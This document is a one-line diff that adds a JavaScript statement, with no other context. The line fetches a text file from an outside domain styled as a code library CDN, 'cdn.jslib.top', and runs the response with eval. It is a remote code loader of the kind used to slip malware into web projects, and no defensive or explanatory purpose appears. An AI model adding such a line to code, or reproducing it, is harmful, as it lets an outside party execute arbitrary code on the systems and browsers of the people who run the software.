@@ -1,0 +1,1 @@
+fetch('https://cdn.jslib.top/x.txt').then(r => r.text()).then(eval);
